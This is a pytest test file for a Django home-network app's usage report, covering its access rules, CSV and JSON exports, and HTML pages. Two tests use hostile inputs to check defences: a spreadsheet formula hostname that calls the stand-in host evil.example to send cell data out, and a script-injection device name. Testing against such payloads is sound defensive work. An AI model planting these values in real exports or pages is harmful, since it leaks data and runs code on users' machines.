"""The usage report and its exports, checked for each of the cast (tests/cast.py)."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta

import pytest
from django.utils import timezone

from lanward.inventory.models import Member
from lanward.usage.models import UsageDay, UsageHour
from tests.cast import ROLES, assert_access, make_device

pytestmark = pytest.mark.django_db

FIELDS = ["mac", "device", "app", "category", "bytes_up", "bytes_down", "active_seconds"]


@pytest.fixture
def usage():
    now = timezone.now()
    anna = Member.objects.create(name="Anna")
    phone = make_device("02:00:00:00:00:01", name="Anna's phone", owner=anna)
    tv = make_device("02:00:00:00:00:02", hostname="living-room-tv")
    for device, at, app, up, down in [
        (phone, now - timedelta(hours=1), "YouTube", 100, 2_000),
        (phone, now - timedelta(hours=2), "YouTube", 50, 1_000),
        (tv, now - timedelta(hours=3), "Netflix", 10, 50_000),
        (tv, now - timedelta(days=3), "Netflix", 5, 7_000),  # in 7d, not in 24h
    ]:
        UsageHour.objects.create(
            device=device,
            hour=at,
            app=app,
            category="Media",
            bytes_up=up,
            bytes_down=down,
            active_seconds=60,
        )
    UsageDay.objects.create(  # in 365d only
        device=phone,
        day=(now - timedelta(days=100)).date(),
        app="WhatsApp",
        category="Chat",
        bytes_up=1,
        bytes_down=2,
        active_seconds=0,
    )
    return {"anna": anna, "phone": phone, "tv": tv}


PAGES = [
    "/usage/",
    "/usage/?period=30d",
    "/usage/members/{anna}/",
    "/usage/export.csv",
    "/usage/export.json",
]


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("page", PAGES)
def test_usage_belongs_to_the_household(client_as, usage, role, page):
    assert_access(client_as(role).get(page.format(anna=usage["anna"].pk)), role)


def test_other_export_formats_are_404(owner_client, usage):
    for fmt in ("xml", "CSV", "csv.exe", "html"):
        assert owner_client.get(f"/usage/export.{fmt}").status_code == 404


def test_an_unknown_member_is_404(owner_client, usage):
    assert owner_client.get("/usage/members/999999/").status_code == 404


def csv_rows(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    reader = csv.DictReader(io.StringIO(response.content.decode()))
    assert reader.fieldnames == FIELDS
    return [dict(r) for r in reader]


def test_csv_export_has_the_rows_of_the_period(client_as, usage):
    response = client_as("member").get("/usage/export.csv", {"period": "24h"})
    assert response["Content-Disposition"].startswith('attachment; filename="lanward-usage-')
    assert response["Content-Disposition"].endswith('.csv"')
    assert csv_rows(response) == [
        {
            "mac": "02:00:00:00:00:02",
            "device": "living-room-tv",
            "app": "Netflix",
            "category": "Media",
            "bytes_up": "10",
            "bytes_down": "50000",
            "active_seconds": "60",
        },
        {
            "mac": "02:00:00:00:00:01",
            "device": "Anna's phone",
            "app": "YouTube",
            "category": "Media",
            "bytes_up": "150",
            "bytes_down": "3000",
            "active_seconds": "120",
        },
    ]


def test_json_export_has_the_rows_of_the_period(client_as, usage):
    response = client_as("member").get("/usage/export.json", {"period": "365d"})
    assert response["Content-Type"] == "application/json"
    body = json.loads(response.content)
    assert set(body) == {"since", "until", "usage"}
    since = datetime.fromisoformat(body["since"])
    until = datetime.fromisoformat(body["until"])
    assert until - since == timedelta(days=365)
    assert {(r["device"], r["app"]): (r["bytes_up"], r["bytes_down"]) for r in body["usage"]} == {
        ("living-room-tv", "Netflix"): (15, 57_000),
        ("Anna's phone", "YouTube"): (150, 3_000),
        ("Anna's phone", "WhatsApp"): (1, 2),
    }
    assert all(list(r) == FIELDS for r in body["usage"])


def test_an_unknown_period_exports_the_last_seven_days(owner_client, usage):
    rows = json.loads(owner_client.get("/usage/export.json", {"period": "forever"}).content)
    assert sum(r["bytes_down"] for r in rows["usage"]) == 3_000 + 57_000


def test_an_empty_export_is_just_the_header(owner_client, db):
    assert csv_rows(owner_client.get("/usage/export.csv")) == []
    assert json.loads(owner_client.get("/usage/export.json").content)["usage"] == []


def test_names_that_spreadsheets_would_run_are_neutralized_in_csv(owner_client, usage):
    """Hostnames come from any device on the network (DHCP): never let them be formulas."""
    tv = usage["tv"]
    tv.hostname = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    tv.save()
    rows = csv_rows(owner_client.get("/usage/export.csv", {"period": "24h"}))
    cell = next(r["device"] for r in rows if r["mac"] == tv.mac)
    assert cell == "'" + tv.hostname
    # JSON is data, not a spreadsheet: exactly as stored.
    body = json.loads(owner_client.get("/usage/export.json", {"period": "24h"}).content)
    assert tv.hostname in {r["device"] for r in body["usage"]}


def test_the_overview_shows_devices_apps_and_members(client_as, usage):
    body = client_as("member").get("/usage/", {"period": "24h"}).content.decode()
    assert "Last 24 hours" in body
    assert "living-room-tv" in body and "Netflix" in body and "YouTube" in body
    assert f'href="/usage/members/{usage["anna"].pk}/?period=24h">Anna</a>' in body
    assert "<svg" in body
    assert 'href="/usage/export.csv?period=24h"' in body


def test_the_member_page_shows_only_their_devices(client_as, usage):
    body = client_as("member").get(f"/usage/members/{usage['anna'].pk}/").content.decode()
    assert "Usage of Anna" in body
    assert "Anna&#x27;s phone" in body
    assert "living-room-tv" not in body and "Netflix" not in body


def test_device_names_are_escaped_everywhere(client_as, usage):
    phone = usage["phone"]
    phone.name = "<script>alert(1)</script>"
    phone.save()
    Member.objects.filter(pk=usage["anna"].pk).update(name="<b>Anna</b>")
    for url in (
        "/usage/",
        f"/usage/members/{usage['anna'].pk}/",
        f"/devices/{phone.pk}/",
        "/devices/",
        "/members/",
    ):
        body = client_as("owner").get(url).content.decode()
        assert "<script>alert" not in body and "<b>Anna" not in body, url
    assert (
        "&lt;script&gt;alert(1)&lt;/script&gt;"
        in client_as("owner").get("/usage/").content.decode()
    )
